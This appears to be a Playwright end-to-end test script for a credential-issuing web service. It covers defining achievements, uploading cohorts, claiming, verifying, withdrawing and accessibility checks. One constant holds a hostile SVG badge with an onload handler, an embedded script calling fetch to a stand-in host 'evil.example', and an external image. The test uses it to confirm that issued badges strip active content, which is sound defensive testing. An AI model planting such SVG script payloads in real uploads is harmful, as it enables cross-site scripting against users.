// The main job as people do it: a registrar defines, uploads, mends and issues; a learner takes and shows; a reader checks; the
// registrar withdraws; the reader checks again. The learner and the reader have no script; `plain.mjs` is the registrar's way without.

import {readFile} from 'node:fs/promises';
import {join} from 'node:path';
import {SCREENSHOTS, open} from './chromium.mjs';
import {bloc} from './bloc.mjs';
import {bundled} from './bundled.mjs';
import {crosswalk, readForRole} from './crosswalk.mjs';
import {employer} from './employer.mjs';
import {endorse} from './endorse.mjs';
import {here, hereWithdrawn} from './here.mjs';
import {hiring} from './hiring.mjs';
import {large} from './large.mjs';
import {listen, look, violations} from './look.mjs';
import {linkFor} from './mail.mjs';
import {npmPackage} from './package.mjs';
import {plain} from './plain.mjs';
import {presented} from './presented.mjs';
import {auditor} from './roles.mjs';
import {staff} from './staff.mjs';
import {typing} from './typing.mjs';

const PEOPLE = 100;
// With all that a badge must not take over from it.
const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" onload="alert(1)"><path d="M8 8h48v48H8z"/>' +
  '<script>alert(2); fetch("https://evil.example/script")</script><image href="https://evil.example/picture.png" width="9" height="9"/></svg>';
const LEARNER = {name: 'Zoë Ångström', email: 'zoe.angstrom@example.org'};

/** Goes the whole way; gives the pages it came by and the registrar's session. */
export async function journey(browser, address, signIn, check) {
  const pages = [
    {name: 'home', path: '/', open: true},
    {name: 'institution-public', path: '/i/riverside', open: true},
    {name: 'meaning', path: '/i/riverside/a/precision-measurement', open: true},
    {name: 'api', path: '/api', open: true},
    {name: 'claim-code', path: '/claim', open: true},
    {name: 'how', path: '/how', open: true},
    {name: 'privacy', path: '/privacy', open: true},
    {name: 'log', path: '/log', open: true},
    {name: 'log-entry', path: '/log?entry=3', open: true},
    {name: 'sign-in', path: '/signin', open: true},
    {name: 'verify', path: '/verify', open: true},
    {name: 'nowhere', path: '/nowhere', open: true, status: 404},
  ];
  const desk = await open(browser);
  const registrar = await desk.newPage();
  // A list that is not ready for the profile that was chosen is refused.
  const heard = listen(registrar, new URL(address).origin, 422);

  await registrar.goto(signIn);
  await registrar.getByRole('button', {name: 'Sign in'}).click();
  check('signing in leads to the day’s work', new URL(registrar.url()).pathname === '/today', registrar.url());
  const signedIn = await desk.storageState();

  await typing(browser, address, signedIn, check);
  pages.push(...await define(registrar, check));
  const cohort = await award(registrar, check);
  pages.push(...cohort.pages);

  const learner = await open(browser, {script: false, width: 320});
  const taken = await claim(learner, address, check);
  pages.push({name: 'kept', path: taken.kept, open: true}, {name: 'public', path: taken.open, open: true});

  const described = await crosswalk(registrar, address, check);
  const role = described.find(({name}) => name === 'role-open').path;
  pages.push(...described, await readForRole(learner, new URL(taken.open, address).href, role, check));
  const {path: edited} = described.find(({name}) => name === 'role');
  pages.push(...await hiring(browser, registrar, edited, taken, check));
  pages.push(...await staff(browser, registrar, edited, taken, check));
  pages.push(...await bloc(browser, registrar, address, check));
  pages.push(...await employer(browser, address, check));
  pages.push(...await plain(browser, address, signedIn, check));
  pages.push(...await endorse(browser, registrar, address, check));
  await reads(browser, taken, 'stands', /^(Stands today|Genuine, from an issuer we do not know)/, check);
  await here(browser, taken, check);
  await npmPackage(taken, check);
  await bundled(browser, taken, check);
  await presented(browser, {...taken, name: LEARNER.name}, await sample('aim.json'), check);
  pages.push(...await withdraw(registrar, check));
  await withdrawMany(registrar, check);
  await reads(browser, taken, 'withdrawn', /^Withdrawn/, check);
  await hereWithdrawn(browser, taken, check);
  await picture(browser, taken, check);
  await compare(browser, address, check);
  await drawn(browser, address, check);
  pages.push(...await counts(registrar, check));
  pages.push(...await large(browser, registrar, signedIn, cohort.pages.at(-1).path, check));
  pages.push(...await auditor(browser, registrar, cohort.pages[0].path, check));
  pages.push({name: 'public-withdrawn', path: taken.open, open: true});

  for(const place of ['today', 'achievements', 'achievements/new', 'cohorts', 'cohorts/new', 'credentials', 'mappings', 'roles', 'roles/new',
    'deliveries', 'audit', 'members', 'signing-keys', 'me', 'institution', 'responsibilities']) {
    pages.push({name: place.replace('/', '-'), path: `/${place}`});
  }
  await registrar.goto(new URL('/members', address).href);
  pages.push({name: 'member', path: await registrar.locator('td a, th a').first().getAttribute('href')});
  const key = await registrar.locator('a[href^="/signing-keys/"]').first().getAttribute('href');
  pages.push({name: 'signing-key', path: key}, {name: 'signing-key-give-up', path: `${key}/compromise`},
    {name: 'signing-key-destroy', path: `${key}/destroy`});
  check('the registrar’s pages were silent', heard.length === 0, heard);
  await learner.close();
  await desk.close();
  return {pages, signedIn};
}

async function define(page, check) {
  await page.goto(new URL('/achievements/new', page.url()).href);
  await page.getByLabel('Name', {exact: true}).fill('Wound dressing');
  await page.getByLabel('The person can …').fill('dress wounds without help');
  await page.getByLabel('How it is assessed').fill('Dresses **two** wounds of different kinds, observed, 40 minutes.');
  await page.getByLabel('Level 1: name').fill('With help');
  await page.getByLabel('Level 2: name').fill('Alone');
  const seen = page.getByLabel('What can be seen');
  await seen.nth(0).fill('Needs a word now and then.');
  await seen.nth(1).fill('Chooses and works unprompted.');
  await page.getByLabel('Must be reached').fill('1');
  await page.getByLabel('Show the person’s name').check();
  await page.getByLabel('A picture of its own').setInputFiles({name: 'badge.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(PICTURE)});
  await page.getByLabel('Look at it as').selectOption('tmc-application');
  await page.locator('#beside[data-state=current]').waitFor(); // Else the browser gives up what the script asks for, and that is heard.
  await page.getByRole('button', {name: 'Show the preview'}).click();
  const found = await words(page);
  check('the preview says what to correct, and certifies nothing', found.includes('Not ready for tmc-application.') && /TS-009/.test(found) && !/certified/i.test(found), found);
  check('the preview says how an employer reads it', found.includes('How an employer reads it'), found);
  check('a picture is carried through the preview', (await words(page)).includes('A picture was chosen (SVG, 1 KB)'), await words(page));
  await page.getByRole('button', {name: 'Save'}).click();
  const path = new URL(page.url()).pathname;
  check('an achievement is saved', /^\/achievements(\/[^/]+)?$/.test(path) && path !== '/achievements/new', await words(page));
  const saved = page.getByRole('link', {name: 'Wound dressing', exact: true});
  const href = await saved.getAttribute('href');
  await gate(page, href, check);
  return [{name: 'achievement', path: href}];
}

/** What is not ready for the profile that was chosen is not taken in; the page says what to mend, and the choice can be undone. */
async function gate(page, path, check) {
  const choose = async profile => {
    await page.goto(new URL(path, page.url()).href);
    await page.getByLabel('It has to be ready for').selectOption(profile);
    await page.getByRole('button', {name: 'Choose'}).click();
    return words(page);
  };
  const chosen = await choose('eu-mc');
  check('a profile is chosen', chosen.includes('It has to be ready for eu-mc'), chosen.slice(0, 600));
  await upload(page, rows());
  const refused = await words(page);
  check('what is not ready is not taken in, and why', refused.includes('it is not ready for eu-mc') && /TS-006/.test(refused), refused.slice(0, 1200));
  await page.screenshot({path: join(SCREENSHOTS, 'not-ready.png'), fullPage: true});
  const undone = await choose('none');
  check('the choice can be undone', undone.includes('Nothing is asked of it'), undone.slice(0, 600));
}

async function award(page, check) {
  const faulty = rows();
  faulty[10].email = 'nobody at example.org';
  faulty[20].level = 'Level nine';
  faulty[30].awarded_on = '31.31.2026';
  await upload(page, faulty);
  const heading = () => page.getByRole('heading', {level: 1}).innerText();
  check('a preview counts what is ready and what is not', /97 are ready, 3 need you/.test(await heading()), await heading());
  const faults = await words(page);
  for(const fault of [/12\s+Learner 10\s+e-mail\s+\S+/, /22\s+Learner 20\s+level\s+\S+/, /32\s+Learner 30\s+date\s+\S+/]) {
    check(`the preview says row, person, column and reason: ${fault}`, fault.test(faults), faults.slice(0, 1500));
  }
  const preview = new URL(page.url()).pathname;

  await upload(page, rows());
  check('the corrected list is ready', (await heading()).includes(`${PEOPLE} rows: all are ready`), await heading());
  await page.getByRole('button', {name: `Issue ${PEOPLE} credentials`}).click();
  const progress = new URL(page.url()).pathname;
  const began = Date.now();
  while(!(await heading()).endsWith('is awarded') && Date.now() - began < 120_000) {
    await page.waitForTimeout(500);
    await page.goto(new URL(progress, page.url()).href);
  }
  check(`${PEOPLE} credentials are issued`, (await heading()).endsWith('is awarded'), await words(page));
  const form = page.locator('form[action$="/credentials.zip"]');
  const saved = await page.context().request.get(new URL(`${await form.getAttribute('action')}?format=json`, page.url()).href);
  check('the cohort is saved as one file', saved.status() === 200 && (await saved.body()).subarray(0, 2).toString() === 'PK', saved.status());
  await page.getByRole('link', {name: 'See the credentials'}).click();
  const list = await words(page);
  check(`the list counts ${PEOPLE}`, list.includes(`${PEOPLE} match`), list.slice(0, 400));
  return {pages: [{name: 'preview', path: preview}, {name: 'mail', path: `${preview}/mail`}, {name: 'progress', path: progress}]};
}

async function upload(page, people) {
  await page.goto(new URL('/cohorts/new', page.url()).href);
  await page.getByLabel('What is awarded').selectOption({label: 'Wound dressing'});
  const table = ['name,email,identifier,level,awarded_on', ...people.map(one => Object.values(one).join(','))];
  await page.getByLabel('The list').setInputFiles({name: 'nurses.csv', mimeType: 'text/csv', buffer: Buffer.from(table.join('\r\n'))});
  await page.getByRole('button', {name: 'Upload and look'}).click();
}

function rows() {
  return Array.from({length: PEOPLE}, (_, number) => ({
    name: number === 0 ? LEARNER.name : `Learner ${number}`,
    email: number === 0 ? LEARNER.email : `learner${number}@example.org`,
    identifier: `N-${number}`,
    level: number % 2 === 0 ? 'Alone' : 'With help',
    awarded_on: '2026-11-20',
  }));
}

async function claim(context, address, check) {
  const link = await linkFor(process.env.TOUCHSTONE_DATA, LEARNER.email);
  const page = await context.newPage();
  for(let visit = 0; visit < 3; visit += 1) {
    await page.goto(link);
  }
  const take = page.getByRole('button', {name: 'Take my credential'});
  check('looking at the offer changes nothing', await take.count() === 1, await words(page));
  // Before it is taken: afterwards the link leads elsewhere.
  for(const {claim: what, held, seen} of await look(context.browser(), 'offer', link)) {
    check(what, held, seen);
  }
  await take.click();
  check('the credential is the learner’s', (await words(page)).includes('It is yours'), await words(page));
  const kept = new URL(page.url()).pathname;
  const files = {};
  for(const format of ['json', 'png', 'svg', 'pdf']) {
    const href = await page.locator(`a[href$="credential.${format}"]`).getAttribute('href');
    const answer = await context.request.get(new URL(href, address).href);
    check(`the ${format} can be kept`, answer.status() === 200, answer.status());
    files[format] = await answer.body();
  }
  await page.getByRole('button', {name: 'Switch the public page on'}).click();
  const shown = await page.getByRole('textbox', {name: 'Address of your public page'}).inputValue();
  const others = await context.request.get(new URL(new URL(shown).pathname, address).href);
  check('the public page is on', others.status() === 200, others.status());
  return {kept, open: new URL(shown).pathname, files, address};
}

/** What a reader reads on the public page and about each file, in a window of their own. */
async function reads(browser, taken, name, verdict, check) {
  const context = await open(browser, {script: false, width: 375});
  const page = await context.newPage();
  const began = Date.now();
  let said = '';
  while(Date.now() - began < 60_000) {
    await page.goto(new URL(taken.open, taken.address).href);
    said = await page.locator('.verdict').innerText();
    if(verdict.test(said.trim())) {
      break;
    }
    await page.waitForTimeout(1000);
  }
  check(`the public page says that it ${name}`, verdict.test(said.trim()), said);
  for(const [format, body] of Object.entries(taken.files)) {
    await drop(page, taken.address, format, body);
    const answer = await page.locator('.verdict').first().innerText({timeout: 10_000}).catch(() => words(page));
    check(`the dropped ${format} says that it ${name}`, verdict.test(answer.trim()), answer.slice(0, 400));
  }
  const broken = await rules(browser, answer => drop(answer, taken.address, 'json', taken.files.json));
  check(`the answer about a file that ${name} breaks no WCAG 2.2 AA rule`, broken.length === 0, broken);
  await context.close();
}

async function drop(page, address, format, body) {
  await page.goto(new URL('/verify', address).href);
  const file = {name: `credential.${format}`, mimeType: 'application/octet-stream', buffer: body};
  await page.locator('form input[type=file]').setInputFiles(file);
  await page.locator('form:has(input[type=file]) button').first().click();
}

/** What axe finds on the page that `lead` leads to. The rules run as a script, so this window has one. */
async function rules(browser, lead) {
  const context = await open(browser, {width: 320});
  const page = await context.newPage();
  await lead(page);
  const broken = await violations(page);
  await context.close();
  return broken;
}

/** Two of the cohort at once: chosen in the list, shown, with one reason. */
async function withdrawMany(page, check) {
  await page.goto(new URL('/credentials?q=Learner%209', page.url()).href);
  await page.getByRole('checkbox', {name: /^Choose Learner 9[12],/}).first().check();
  await page.getByRole('checkbox', {name: /^Choose Learner 9[34],/}).first().check();
  await page.getByRole('button', {name: 'Withdraw …'}).click();
  const shown = await words(page);
  check('everybody affected is shown before', /Withdraw 2 credentials/.test(shown) && /Nothing is changed yet/.test(shown), shown.slice(0, 600));
  const asked = await violations(page);
  check('choosing many breaks no WCAG 2.2 AA rule', asked.length === 0, asked);
  await page.getByLabel('Reason').fill('The assessor was not qualified on that day.');
  await page.getByRole('button', {name: 'Withdraw 2 credentials for good'}).click();
  const said = await words(page);
  check('two are withdrawn at once', said.includes('2 credentials are withdrawn'), said.slice(0, 600));
  const told = await violations(page);
  check('the result of many breaks no WCAG 2.2 AA rule', told.length === 0, told);
}

async function withdraw(page, check) {
  await page.goto(new URL(`/credentials?q=${encodeURIComponent(LEARNER.email)}`, page.url()).href);
  await page.getByRole('link', {name: LEARNER.name}).first().click();
  const path = new URL(page.url()).pathname;
  const reason = page.locator('form[action$="/revoke"]').getByLabel('Reason');
  await reason.fill('The assessment was recorded for the wrong person.');
  await page.getByRole('button', {name: 'Withdraw it for good'}).click();
  const said = await words(page);
  check('the registrar’s page says that it is withdrawn', said.includes('Withdrawn'), said.slice(0, 600));
  return [{name: 'credential', path}];
}

/** A credential of the vectors in the shape that we issue. */
function sample(name) {
  return readFile(new URL(`../../../shared/vectors/sample-shapes/${name}`, import.meta.url), 'utf8');
}

/** The log and the keys as pictures, for people, with what they show in words. */
async function drawn(browser, address, check) {
  const context = await open(browser, {script: false, width: 375});
  const page = await context.newPage();
  for(const [path, title, told] of [
    ['/i/riverside', 'When each key signed', /^riverside-1 signs\.$/],
    ['/log?entry=3', 'The way from entry 3 up to the seal', /^Entry 3 is joined with its neighbour/],
  ]) {
    await page.goto(new URL(path, address).href);
    const image = page.getByRole('img', {name: title});
    const [seen, said] = [await image.count(), (await image.locator('desc').first().textContent().catch(() => '')).trim()];
    check(`${path} has a picture, told in words`, seen === 1 && told.test(said), {seen, said});
    const box = await image.boundingBox();
    check(`${path}: the picture is seen`, box !== null && box.width > 100 && box.height > 50, box);
  }
  await context.close();
}

/** A credential that names nobody: a reader compares the address that the person told. */
async function compare(browser, address, check) {
  const credential = await sample('aim.json');
  const told = async (page, holder) => {
    await page.goto(new URL('/verify', address).href);
    await page.getByLabel('Or paste a link or the text of the credential').fill(credential);
    await page.getByRole('button', {name: 'Check it'}).click();
    await page.getByLabel('E-mail address that the person gave you').fill(holder);
    await page.getByRole('button', {name: 'Compare'}).click();
  };
  const context = await open(browser, {script: false, width: 375});
  const page = await context.newPage();
  for(const [holder, answer] of [['Ada@example.edu', 'This is the address it was issued to'], ['bob@example.edu', 'It was issued to another address']]) {
    await told(page, holder);
    const said = await words(page);
    check(`without script, ${holder}: ${answer}`, said.includes(answer), said.slice(0, 600));
    check('no address stands in the address bar', !page.url().includes('example.edu'), page.url());
    await page.screenshot({path: join(SCREENSHOTS, `compared-${holder.slice(0, 3)}.png`), fullPage: true});
  }
  const broken = await rules(browser, answer => told(answer, 'bob@example.edu'));
  check('the answer to a comparison breaks no WCAG 2.2 AA rule', broken.length === 0, broken);
  await context.close();
}

/** How often credentials were checked, as the registrar sees it. */
async function counts(page, check) {
  await page.goto(new URL('/achievements', page.url()).href);
  await page.getByRole('link', {name: 'Wound dressing', exact: true}).click();
  await page.getByRole('link', {name: 'How often its credentials were checked'}).click();
  await page.waitForTimeout(6_000); // Counts are written every five seconds.
  await page.reload();
  const said = await words(page);
  check('checks are counted and nobody is named', /On the public page/.test(said) && !said.includes(LEARNER.name), said.slice(0, 600));
  return [{name: 'checks', path: new URL(page.url()).pathname}];
}

/** A badge as a drawing is a file from somebody: it must run nothing and ask for nothing. */
async function picture(browser, taken, check) {
  const context = await open(browser);
  const page = await context.newPage();
  const heard = listen(page, 'data:');
  await page.goto(`data:image/svg+xml;base64,${taken.files.svg.toString('base64')}`);
  check('t53_a_badge_as_svg_runs_and_asks_nothing', heard.length === 0, heard);
  const noticed = page.waitForEvent('dialog');
  await page.goto(`data:image/svg+xml;base64,${Buffer.from(PICTURE).toString('base64')}`, {waitUntil: 'commit'});
  await noticed;
  check('what was uploaded as its picture would have been heard', heard.length > 0, heard);
  await context.close();
}

function words(page) {
  return page.locator('main').innerText();
}
